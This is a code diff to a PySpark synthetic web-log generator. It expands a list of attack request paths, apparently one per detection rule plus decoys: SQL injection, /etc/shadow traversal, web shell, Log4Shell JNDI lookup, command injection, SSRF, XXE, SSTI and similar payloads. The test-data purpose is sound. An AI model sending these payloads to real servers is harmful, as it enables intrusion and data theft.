@@ -13,15 +13,17 @@ from spoor.functions.text import domain_of
 from spoor.session import configure
 
 START = 1704067200
-PAYLOADS = {
-    1: "/items?cat=7'+and+3=3--",
-    2: "/get?doc=..%2f..%2f..%2fetc%2fshadow",
-    3: "/img/c99.php",
-    4: "/.env",
-    5: "/phpmyadmin/",
-    6: "/note?body=<img+src=q+onerror=print()>",
-    7: "/q?ua=${jndi:rmi://lab.example/o}",
-}
+# One request for each rule, then three that only look like one.
+PAYLOADS = (
+    "/items?cat=7'+and+3=3--", "/get?doc=..%2f..%2f..%2fetc%2fshadow", "/img/c99.php", "/.env", "/phpmyadmin/",
+    "/note?body=<img+src=q+onerror=print()>", "/q?ua=${jndi:rmi://lab.example/o}", "/find?age[$gt]=0",
+    "/tools/trace?target=a|cat+/etc/hosts", "/cgi-bin/t?h=()%20{%20_;}", "/card?to={{9*9}}",
+    "/people?cn=*)(objectClass=*", "/tree?n=count(/list)", "/view?tpl=https://files.example/a.txt",
+    "/proxy?target=gopher://192.0.2.9:70/", "/xml?b=<!DOCTYPE+a>", "/state?v=rO0ABXNy",
+    "/save?class.module.classLoader.URLs=1", "/go.action?method:%23_memberAccess", "/go?lang=en%0d%0aX-Note:1",
+    "/out?return=//lab.example", "/open/..;/admin", "/get?f=a.txt%00", "/elmah.axd", "/?rest_route=/wp/v2/posts",
+    "/img?w=1&&id=3", "/search?q=for+2=b", "/shop?color+5=1",
+)
 
 
 def weblog(spark: SparkSession, sf_dir: str) -> DataFrame:
@@ -35,9 +37,9 @@ def weblog(spark: SparkSession, sf_dir: str) -> DataFrame:
     method = (F.when(kind == "signup", "POST")
               .when((kind == "purchase") & (n % 7 == 0), "PUT")
               .when(kind == "purchase", "POST").otherwise("GET"))
-    url = F.lit(None).cast("string")
-    for slot, text in PAYLOADS.items():
-        url = F.when(n % 23 == slot, text).otherwise(url)
+    # 7 of 23 requests, and each payload in turn.
+    turn = (n % 23 - 1) + 7 * (F.floor(n / 23) % (len(PAYLOADS) // 7))
+    url = F.when((n % 23).between(1, 7), F.get(F.array(*[F.lit(p) for p in PAYLOADS]), turn.cast("int")))
     url = F.coalesce(url, F.concat(F.lit("/products/"), (n % 50).cast("string")))
     status = (F.when((kind == "error") & (n % 3 == 0), 401)
               .when((kind == "error") & (n % 3 == 1), 403)
